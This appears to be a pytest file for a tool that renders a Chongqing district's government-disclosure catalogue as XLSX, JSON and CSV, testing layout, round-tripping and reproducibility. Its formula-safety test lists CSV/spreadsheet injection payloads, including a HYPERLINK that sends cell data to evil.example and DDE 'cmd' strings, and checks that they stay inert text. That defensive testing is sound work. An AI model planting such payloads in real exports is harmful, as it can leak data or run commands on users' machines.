"""The XLSX workbooks and the open data: layout (golden dumps), the 附件 merges, formulas that never
come from data, lossless read-back, reproducible bytes, and a real office suite opening the file."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import unicodedata
import zipfile
from pathlib import Path
from typing import Any

import pydantic_core
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from conftest import ROOT, Golden, edited_copy
from office import printed_text
from xlsx_dump import dump_workbook
from zwgk_cli.build.builder import build, render_outputs
from zwgk_cli.check.pipeline import check_catalogue
from zwgk_cli.core.catalogue import Catalogue
from zwgk_cli.core.models import Domain, Settings
from zwgk_cli.core.text_width import terminal_width, wide_count
from zwgk_cli.importer.datasheet import read_data_sheet
from zwgk_cli.importer.readers import read_tables
from zwgk_cli.render.opendata import (
    CSV_COLUMNS,
    catalogue_csv,
    catalogue_data,
    catalogue_json,
    escape_cell,
    join_list,
    split_list,
    subject_from_text,
    unescape_cell,
    write_catalogue_json,
)
from zwgk_cli.render.xlsx.measure import line_count, split_cells
from zwgk_cli.render.xlsx.workbook import (
    DATA_SHEET,
    TASKS_SHEET,
    catalogue_workbook,
    sheet_names,
    tasks_workbook,
)

FIXTURE = ROOT / "tests" / "fixtures" / "site"
SHIPPED = ROOT / "catalogues"
GOLDEN = ROOT / "tests" / "golden" / "xlsx"


def load(root: Path) -> Catalogue:
    result = check_catalogue(root)
    assert result.catalogue is not None, [d.message.zh for d in result.diagnostics]
    return result.catalogue


@pytest.fixture(scope="module")
def shipped() -> Catalogue:
    return load(SHIPPED)


@pytest.mark.parametrize(("name", "render"), [("catalogue", catalogue_workbook), ("tasks", tasks_workbook)])
def test_workbook_layout_golden(golden: Golden, name: str, render: Any) -> None:
    golden(GOLDEN / f"{name}.txt", dump_workbook(render(load(FIXTURE))))


def test_domain_sheets_are_laid_out_as_offices_publish(shipped: Catalogue) -> None:
    book = load_workbook(io.BytesIO(catalogue_workbook(shipped)))
    names = [sheet.title for sheet in book.worksheets]
    assert names[0] == "目录说明"
    assert names[1:27] == [d.domain for d in shipped.domains]
    assert names[27:] == [TASKS_SHEET, DATA_SHEET]
    assert book[DATA_SHEET].sheet_state == "hidden"
    sheet = book["社会救助"]
    assert sheet["A1"].value == "重庆市渝北区社会救助领域基层政务公开标准目录"
    assert sheet["A2"].value.startswith("示例目录")
    merged = {str(r) for r in sheet.merged_cells.ranges}
    assert {"A3:A4", "B3:C3", "I3:J3", "K3:L3", "M3:O3"} <= merged
    assert [sheet.cell(4, c).value for c in range(1, 16)] == [
        None, "一级事项", "二级事项", None, None, None, None, None, "全社会", "特定群体", "主动", "依申请", "区级", "镇街",
        "村（居）",
    ]  # fmt: skip
    # 一级事项 merged over its adjacent rows, exactly as the HTML table
    domain = next(d for d in shipped.domains if d.slug == "shjz")
    first_row = 5
    runs = []
    index = 0
    while index < len(domain.items):
        end = index
        while end + 1 < len(domain.items) and domain.items[end + 1].category == domain.items[index].category:
            end += 1
        if end > index:
            runs.append(f"B{first_row + index}:B{first_row + end}")
        index = end + 1
    assert set(runs) <= merged
    assert runs
    # 序号 per row, √ centred, the 特定群体 note after its √
    for offset, item in enumerate(domain.items):
        row = first_row + offset
        assert sheet.cell(row, 1).value == offset + 1
        assert sheet.cell(row, 3).value == item.name
        special = sheet.cell(row, 10).value
        if "特定群体" in item.audience:
            assert special == f"√（{item.audience_note}）"
        else:
            assert special is None
        assert sheet.cell(row, 11).alignment.horizontal == "center"
        assert sheet.cell(row, 3).alignment.wrap_text
        assert sheet.row_dimensions[row].height >= 17
    assert sheet.freeze_panes == "D5"
    assert sheet.print_title_rows == "$3:$4"
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.page_setup.paperSize == 9
    assert "&P" in sheet.oddFooter.center.text


def test_task_sheet_reproduces_the_attachment(shipped: Catalogue) -> None:
    for data in (catalogue_workbook(shipped), tasks_workbook(shipped)):
        sheet = load_workbook(io.BytesIO(data))[TASKS_SHEET]
        assert sheet["A1"].value == "26个试点领域政务公开标准化规范化工作任务分工"
        assert [sheet.cell(3, c).value for c in range(1, 6)] == [
            "序号",
            "具体任务",
            "主体责任单位",
            "配合单位",
            "完成时间",
        ]
        first = 4
        lead_merges = sorted(
            (r.min_row - first + 1, r.max_row - first + 1)
            for r in sheet.merged_cells.ranges
            if r.min_col == r.max_col == 3
        )
        assert lead_merges == [(1, 2), (5, 6), (9, 10), (11, 12), (14, 17), (22, 23)]
        partner_merges = sorted(
            (r.min_row - first + 1, r.max_row - first + 1)
            for r in sheet.merged_cells.ranges
            if r.min_col == r.max_col == 4
        )
        assert partner_merges == lead_merges  # the 附件 merges 配合单位 with its 主体责任单位
        assert not [r for r in sheet.merged_cells.ranges if r.min_col == 5]  # 完成时间 per row
        for order in range(1, 27):
            row = first + order - 1
            domain = shipped.domains[order - 1]
            assert sheet.cell(row, 1).value == order
            assert sheet.cell(row, 2).value == f"编制重庆市渝北区{domain.domain}领域政务公开标准目录"
            assert sheet.cell(row, 5).value == "2020年10月30日前"
        assert sheet.cell(4, 3).value == "区发展改革委"
        assert (
            sheet.cell(4, 4).value == "区规划自然资源局、区生态环境局、区住房城乡建委、区交通局、区水利局等"
        )
        assert sheet.cell(17, 3).value == "区住房城乡建委"
        assert sheet.cell(17, 4).value == "区发展改革委、区规划自然资源局、区城市管理局"
        assert sheet.cell(21, 4).value == "区经济信息委"
        text = " ".join(str(c.value) for row in sheet.iter_rows() for c in row if c.value)
        assert "政务公市公开" not in text
        assert "政务公漏开" not in text


def test_hidden_sheet_gives_the_catalogue_back_without_loss(shipped: Catalogue) -> None:
    sheet = load_workbook(io.BytesIO(catalogue_workbook(shipped)))[DATA_SHEET]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    records: dict[tuple[str, str], str] = {}
    positions: dict[str, tuple[str, int]] = {}
    for kind, key, sheet_name, row, _part, text in rows:
        records[(kind, key or "")] = records.get((kind, key or ""), "") + (text or "")
        if kind == "item":
            positions[key] = (sheet_name, row)
    assert json.loads(records[("format", "zwgk-workbook")]) == {"format": "zwgk-workbook", "version": 1}
    settings = Settings.model_validate(json.loads(records[("settings", "")]), strict=False)
    assert settings == shipped.settings
    for domain in shipped.domains:
        head = json.loads(records[("domain", domain.slug)])
        items = [json.loads(records[("item", item.id)]) for item in domain.items]
        rebuilt = Domain.model_validate({**head, "items": items}, strict=False)
        assert rebuilt == domain
    # each item's recorded row holds that item in its sheet
    book = load_workbook(io.BytesIO(catalogue_workbook(shipped)))
    for domain in shipped.domains:
        for item in domain.items:
            name, row = positions[item.id]
            assert book[name].cell(row, 3).value == item.name


def test_long_json_is_split_over_cells(shipped: Catalogue, tmp_path: Path) -> None:
    # an item whose JSON is longer than a cell holds, in characters Excel counts twice (emoji)
    first = shipped.domains[0]
    item = first.items[0].model_copy(update={"content": ["表情😀" * 6_000, "长" * 20_000]})
    domain = first.model_copy(update={"items": [item, *first.items[1:]]})
    catalogue = Catalogue(shipped.root, shipped.settings, [domain, *shipped.domains[1:]], {})
    data = catalogue_workbook(catalogue)
    sheet = load_workbook(io.BytesIO(data))[DATA_SHEET]
    parts = [row[5] or "" for row in sheet.iter_rows(min_row=2, values_only=True) if row[1] == item.id]
    assert len(parts) > 1
    assert all(len(part.encode("utf-16-le")) // 2 <= 32_000 for part in parts)
    assert json.loads("".join(parts)) == json.loads(item.model_dump_json())
    (tmp_path / "book.xlsx").write_bytes(data)
    _, tables = read_tables(tmp_path / "book.xlsx")
    hidden = next(table for table in tables if table.name == DATA_SHEET)
    assert read_data_sheet(hidden).domains[0].domain.items[0] == item


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from(["a", "长", "😀", "𠀀"]), max_size=80_000))
def test_data_cells_split_on_what_excel_counts(text: str) -> None:
    parts = split_cells(text)
    assert "".join(parts) == text
    assert all(len(part.encode("utf-16-le")) // 2 <= 32_000 for part in parts)
    assert all(parts) or parts == [""]


# ---- open data ----


def test_json_reads_back_item_for_item(shipped: Catalogue) -> None:
    data = json.loads(catalogue_json(shipped))
    assert data == catalogue_data(shipped)
    assert data["format"] == "zwgk-catalogue"
    assert data["version"] == 1
    assert Settings.model_validate(data["settings"], strict=False) == shipped.settings
    domains = [Domain.model_validate(d, strict=False) for d in data["domains"]]
    assert domains == shipped.domains


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    reader = csv.reader(io.StringIO(text, newline=""))
    header = next(reader)
    assert header == [title for _, title in CSV_COLUMNS]
    keys = [key for key, _ in CSV_COLUMNS]
    return [{key: unescape_cell(value) for key, value in zip(keys, row, strict=True)} for row in reader]


def test_csv_reads_back_item_for_item(shipped: Catalogue) -> None:
    rows = read_csv(catalogue_csv(shipped))
    items = [(d, i) for d, i in shipped.items()]
    assert len(rows) == len(items)
    for row, (domain, item) in zip(rows, items, strict=True):
        assert (row["order"], row["domain"], row["slug"]) == (str(domain.order), domain.domain, domain.slug)
        assert row["id"] == item.id
        assert (row["category"], row["name"], row["time_limit"]) == (
            item.category,
            item.name,
            item.time_limit,
        )
        assert split_list(row["content"]) == item.content
        assert split_list(row["basis"]) == item.basis
        assert split_list(row["channels"]) == item.channels
        assert split_list(row["audience"]) == item.audience
        assert split_list(row["mode"]) == item.mode
        assert split_list(row["levels"]) == item.levels
        assert subject_from_text(row["subject"], shipped.settings.levels) == item.subject
        assert row["audience_note"] == (item.audience_note or "")
        assert row["link"] == (item.link or "")


@given(st.lists(st.text(alphabet=st.sampled_from("、\\ab公开=+-@'\t"), max_size=8), max_size=6))
def test_list_escape_round_trips(values: list[str]) -> None:
    if values == [""]:
        return  # one empty element and no elements both print as an empty cell
    assert split_list(join_list(values)) == values


@given(st.text(max_size=20))
def test_cell_escape_round_trips_and_disarms(text: str) -> None:
    escaped = escape_cell(text)
    assert unescape_cell(escaped) == text
    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))


# ---- no formula ever comes from data ----

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=cmd|' /C calc'!A0",
    "'=already quoted",
    "=cmd|'/c calc'!A1",
]


def formula_catalogue(tmp_path: Path) -> Path:
    quoted = [json.dumps(p, ensure_ascii=False) for p in PAYLOADS]
    edits = [
        ("name: 初审对象名单公示", f"name: {quoted[0]}"),
        ("content: [初审对象姓名, 拟保障金额]", f"content: [{', '.join(quoted)}]"),
        ("time_limit: 收到申请之日起20个工作日内予以答复", f"time_limit: {quoted[2]}"),
        ("audience_note: 面向申请人本人", f"audience_note: {quoted[4]}"),
        ("category: 临时救助", f"category: {quoted[3]}"),
    ]
    return edited_copy(FIXTURE, tmp_path / "formulas", {"shjz.yaml": edits})


def test_hostile_formulas_stay_text(tmp_path: Path) -> None:
    catalogue = load(formula_catalogue(tmp_path))
    for data in (catalogue_workbook(catalogue), tasks_workbook(catalogue)):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    assert b"<f>" not in archive.read(name), name
                    assert b"<f " not in archive.read(name), name
        book = load_workbook(io.BytesIO(data))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    sheet = load_workbook(io.BytesIO(catalogue_workbook(catalogue)))["社会救助"]
    values = {cell.value for row in sheet.iter_rows() for cell in row}
    assert PAYLOADS[0] in values
    assert "、".join(PAYLOADS) in values
    assert f"√（{PAYLOADS[4]}）" in values
    rows = read_csv(catalogue_csv(catalogue))
    raw = catalogue_csv(catalogue).decode("utf-8-sig")
    for line in csv.reader(io.StringIO(raw, newline="")):
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    hostile = next(r for r in rows if r["id"] == "shjz-002")
    assert hostile["name"] == PAYLOADS[0]
    assert split_list(hostile["content"]) == PAYLOADS
    assert json.loads(catalogue_json(catalogue))["domains"][2]["items"][1]["content"] == PAYLOADS
    assert catalogue_json(catalogue) == _reference_json(catalogue)


def _reference_json(catalogue: Catalogue) -> bytes:
    """What catalogue.json is specified to be: the standard library's indented encoding."""
    return (json.dumps(catalogue_data(catalogue), ensure_ascii=False, indent=2) + "\n").encode("utf-8")


def test_json_is_the_standard_encoding_byte_for_byte(shipped: Catalogue) -> None:
    assert catalogue_json(shipped) == _reference_json(shipped)
    for domains in ([], shipped.domains[:1]):  # none, and one
        part = Catalogue(shipped.root, shipped.settings, domains, {})
        assert catalogue_json(part) == _reference_json(part)


def test_json_layout_points_at_each_domain(shipped: Catalogue) -> None:
    # the workbook helper reads one domain at a time from these offsets
    buffer = io.BytesIO()
    layout = write_catalogue_json(shipped, buffer)
    data = buffer.getvalue()
    start, end = layout.settings
    assert Settings.model_validate_json(data[start:end]) == shipped.settings
    assert len(layout.domains) == len(shipped.domains)
    for (start, end), domain in zip(layout.domains, shipped.domains, strict=True):
        assert Domain.model_validate_json(data[start:end]) == domain


def test_csv_written_a_domain_at_a_time_is_the_whole_table(shipped: Catalogue) -> None:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([title for _, title in CSV_COLUMNS])
    for row in read_csv(catalogue_csv(shipped)):
        writer.writerow(row.values())
    assert catalogue_csv(shipped) == ("\ufeff" + buffer.getvalue()).encode("utf-8")


@settings(max_examples=150, deadline=None)
@given(st.text(), st.lists(st.text(min_size=1), max_size=4))
def test_any_text_is_written_as_the_standard_encoding(name: str, content: list[str]) -> None:
    # the Rust writer behind catalogue.json and the workbook's data sheet: control characters,
    # line separators, quotes and backslashes escaped exactly as json.dumps escapes them
    data = {"name": name, "content": content, "note": None, "ok": True, "n": 3}
    assert pydantic_core.to_json(data, indent=2).decode() == json.dumps(data, ensure_ascii=False, indent=2)
    assert pydantic_core.to_json(data).decode() == json.dumps(data, ensure_ascii=False, separators=(",", ":"))


# ---- reproducible, and linked from the site ----


def test_outputs_are_byte_identical_and_dated_by_the_sources(
    shipped: Catalogue,
) -> None:
    first = render_outputs(shipped)
    second = render_outputs(shipped)
    for name in ("catalogue.xlsx", "tasks.xlsx", "catalogue.json", "catalogue.csv"):
        assert first[name] == second[name], name
    with zipfile.ZipFile(io.BytesIO(first["catalogue.xlsx"])) as archive:
        core = archive.read("docProps/core.xml").decode("utf-8")
        assert "2020-10-30T00:00:00Z" in core
        assert {info.date_time for info in archive.infolist()} == {(2020, 10, 30, 0, 0, 0)}
    with zipfile.ZipFile(io.BytesIO(catalogue_workbook(shipped, epoch=1609459200))) as archive:
        assert "2021-01-01T00:00:00Z" in archive.read("docProps/core.xml").decode("utf-8")
        assert {info.date_time for info in archive.infolist()} == {(2021, 1, 1, 0, 0, 0)}


def test_the_command_dates_the_workbooks_by_source_date_epoch(tmp_path: Path) -> None:
    # the core takes the epoch as an argument; `zwgk build` reads it from the environment
    from typer.testing import CliRunner

    from zwgk_cli.cli.app import app

    out = tmp_path / "dist"
    result = CliRunner().invoke(
        app, ["build", str(SHIPPED), "-o", str(out)], env={"SOURCE_DATE_EPOCH": "1609459200"}
    )
    assert result.exit_code == 0, result.output
    for name in ("catalogue.xlsx", "tasks.xlsx"):
        with zipfile.ZipFile(out / name) as archive:
            assert "2021-01-01T00:00:00Z" in archive.read("docProps/core.xml").decode("utf-8")
            assert {info.date_time for info in archive.infolist()} == {(2021, 1, 1, 0, 0, 0)}


def test_site_links_the_downloads_under_chinese_names(tmp_path: Path) -> None:
    out = tmp_path / "dist"
    build(SHIPPED, out)
    index = (out / "index.html").read_text(encoding="utf-8")
    assert 'href="catalogue.xlsx" download="重庆市渝北区基层政务公开标准目录.xlsx"' in index
    assert 'href="tasks.xlsx" download="26个试点领域政务公开标准化规范化工作任务分工.xlsx"' in index
    assert 'href="catalogue.csv"' in index
    assert 'href="catalogue.json"' in index
    assert 'href="tasks.xlsx"' in (out / "tasks.html").read_text(encoding="utf-8")
    for name in ("catalogue.xlsx", "tasks.xlsx", "catalogue.json", "catalogue.csv"):
        assert (out / name).stat().st_size > 1000


@pytest.mark.parametrize(
    ("names", "expected"),
    [
        (["社会救助"], ["社会救助"]),
        (["a/b:c*d?e[f]g\\h'i"], ["a_b_c_d_e_f_g_h_i"]),
        (["很长的领域名称" * 6], [("很长的领域名称" * 6)[:31]]),
        (["任务分工"], ["任务分工（2）"]),
        (["同名", "同名"], ["同名", "同名（2）"]),
    ],
)
def test_sheet_names_are_valid_and_unique(names: list[str], expected: list[str]) -> None:
    domains = [
        Domain(domain=name, slug=f"d{i}", order=i + 1, lead="区民政局", due="2020-10-30")  # type: ignore[arg-type]
        for i, name in enumerate(names)
    ]
    assert list(sheet_names(domains).values()) == expected


def test_line_count_wraps_chinese_wider_than_latin() -> None:
    assert line_count("", 10) == 1
    assert line_count("abcdefgh", 10) == 1
    assert line_count("最低生活保障审核审批", 10) == 2
    assert line_count("第一行\n第二行", 30) == 2


# ---- a real office suite ----


@pytest.mark.parametrize("name", ["catalogue.xlsx", "tasks.xlsx"])
def test_libreoffice_opens_and_prints_the_workbook(tmp_path: Path, shipped: Catalogue, name: str) -> None:
    source = tmp_path / name
    source.write_bytes(render_outputs(shipped)[name])
    text = printed_text(source, "libreoffice-calc-nogui")
    compact = "".join(text.split())
    if name == "catalogue.xlsx":
        for domain in shipped.domains:
            assert f"重庆市渝北区{domain.domain}领域基层政务公开标准目录" in compact, domain.domain
        assert "第1页，共" in compact
    assert "26个试点领域政务公开标准化规范化工作任务分工" in compact
    assert "编制重庆市渝北区税收管理领域政务公开标准目录" in compact


@settings(max_examples=300, deadline=None)
@given(
    st.text(alphabet=st.characters(blacklist_characters="\n"), max_size=40),
    st.sampled_from([5, 6.5, 12, 16, 28, 34]),
)
def test_a_text_of_at_most_half_the_width_is_one_line(text: str, width: float) -> None:
    # the row heights skip measuring such texts (see _write_domain_sheet)
    if len(text) <= width / 2:
        assert line_count(text, width) == 1


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=80))
def test_wide_characters_are_counted_as_unicode_lists_them(text: str) -> None:
    # long texts are counted with a pattern, short ones one character at a time: the same count
    expected = sum(1 for ch in text if unicodedata.east_asian_width(ch) in ("W", "F"))
    assert wide_count(text) == expected
    assert wide_count(text * 3) == 3 * expected
    assert terminal_width(text) == len(text) + expected


def test_json_writer_builds_the_deferred_models_first() -> None:
    # the models build their serializers on first use; some pydantic versions (2.13) make
    # pydantic_core.to_json fail on an instance of a model that was only ever constructed
    script = """
import json
from datetime import date
from zwgk_cli.core.models import Domain, Model, to_json
def every(model):
    yield model
    for sub in model.__subclasses__():
        yield from every(sub)
assert not Domain.__pydantic_complete__, "defer_build is off: this test checks nothing"
domain = Domain.model_construct(
    domain="社会救助", slug="jz", order=1, lead="区民政局", due=date(2020, 12, 31), items=[]
)
text = to_json({"domains": [domain]}, indent=2)
assert all(m.__pydantic_complete__ for m in every(Model)), [m for m in every(Model) if not m.__pydantic_complete__]
print(json.loads(text)["domains"][0]["slug"])
"""
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "jz"
